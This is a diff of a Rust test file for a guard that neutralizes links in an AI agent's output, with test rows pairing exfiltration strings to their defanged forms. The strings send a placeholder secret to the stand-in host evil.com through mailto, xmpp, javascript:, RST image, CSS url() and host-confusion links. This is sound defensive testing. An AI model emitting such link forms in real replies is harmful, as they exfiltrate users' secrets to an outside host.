@@ -2,7 +2,7 @@
 
 use std::time::Duration;
 
-use flowgate::trace::Tool;
+use flowgate::trace::{Body, Tool};
 use flowgate_guard::agent::{Agent, Observer, Toolbox};
 use flowgate_guard::approve::{Ask, Decision};
 use flowgate_guard::conversation::Method;
@@ -38,12 +38,19 @@ const ROWS: &[(&str, &str)] = &[
     ),
     // Forms that are links without Markdown.
     ("hunter2@evil.com", "hunter2 @ evil .com"),
-    ("xmpp:hunter2@evil.com/x", "xmpp: hunter2 @ evil .com/x"),
+    ("xmpp:hunter2@evil.com/x", "xmpp : hunter2 @ evil .com/x"),
     ("evil.com/hunter2", "evil .com/hunter2"),
     ("//evil.com/hunter2", "/ /evil .com/hunter2"),
-    ("mailto:eve@evil.com?body=hunter2", "mailto: eve @ evil .com?body=hunter2"),
-    ("tel:+1555hunter2", "tel: +1555hunter2"),
-    ("javascript:alert(1)", "javascript: alert(1)"),
+    ("mailto:eve@evil.com?body=hunter2", "mailto : eve @ evil .com?body=hunter2"),
+    ("tel:+1555hunter2", "tel : +1555hunter2"),
+    ("javascript:alert(1)", "javascript : alert(1)"),
+    // Constructs whose readers drop white space or read escapes.
+    (".. image:: //evil.com/hunter2", ".. image: : / /evil .com/hunter2"),
+    (
+        "*x*{style=\"background:url(\\2f\\2f evil/hunter2)\"}",
+        "*x*{style =\"background: url (\\ 2f\\ 2f evil/hunter2)\"}",
+    ),
+    ("https://wiki.example.org/a  \nhunter2", "https://wiki.example.org/a \nhunter2"),
     // The permitted name in another role.
     ("https://wiki.example.org@evil.com/", "hxxps: / /wiki .example .org @ evil .com/"),
     ("https://wiki.example.org.evil.com/x", "hxxps: / /wiki .example .org .evil .com/x"),
@@ -115,10 +122,7 @@ fn what_is_not_permitted_leads_nowhere() {
         let (heard, said) = reply(&policy, text);
         assert_eq!(said, *expected, "the reply {text}");
         assert!(said.starts_with(&heard), "{heard} was heard of {said}");
-        // A text that is YAML is copied as the value it spells.
-        if !text.contains(": ") {
-            assert_eq!(slot(&policy, json!(text)), *expected, "the slot {text}");
-        }
+        assert_eq!(slot(&policy, json!(text)), *expected, "the slot {text}");
         let nested = slot(&policy, json!({"rows": [{"note": text}]}));
         assert_eq!(nested, json!({"rows": [{"note": expected}]}).to_string(), "in a value");
     }
@@ -162,4 +166,39 @@ fn keys_are_cleaned_and_none_is_lost() {
     let keys: Vec<&String> = sent.as_object().unwrap().keys().collect();
     assert_eq!(keys.len(), 3, "{sent}");
     assert!(!sent.to_string().contains("evil.com"), "{sent}");
+}
+
+/// Each permitted address tells something, so only so many of one text are judged; the others are broken apart.
+#[test]
+fn only_so_many_addresses_of_a_text_are_permitted() {
+    for (count, refused) in [(200, 0), (203, 3)] {
+        let mut run = Run::new(&format!("{POLICY}{PERMITTED}"), Method::LowestFirst);
+        let text: String = (0..count).map(|number| format!("https://wiki.example.org/{number} ")).collect();
+        let look = r#"look {"regions": ["h1"]}"#;
+        let turn = run.turn("List what it links to.", &["read {}", look, &text]);
+        assert_eq!(turn.replies[0].disarmed.len(), refused, "{count}");
+        assert_eq!(turn.replies[0].text.matches("https://").count(), count - refused, "{count}");
+    }
+}
+
+/// Each judged address is a call of its own, with an id that no other call has.
+#[test]
+fn judged_addresses_have_ids_of_their_own() {
+    let mut run = Run::new(&format!("{POLICY}{PERMITTED}"), Method::LowestFirst);
+    let read = r#"look {"regions": ["h1"]}"#;
+    run.turn(
+        "Read it.",
+        &["read {}", read, "See https://wiki.example.org/a and https://wiki.example.org/b."],
+    );
+    let trace = run.conversation.monitor().trace();
+    let ids: Vec<&str> = trace
+        .events()
+        .iter()
+        .filter_map(|event| match &event.body {
+            Body::Call(call) if *call.tool.name == *"link" => Some(call.id.as_str()),
+            _ => None,
+        })
+        .collect();
+    let distinct: std::collections::BTreeSet<&str> = ids.iter().copied().collect();
+    assert!(ids.len() > 1 && distinct.len() == ids.len(), "{ids:?}");
 }
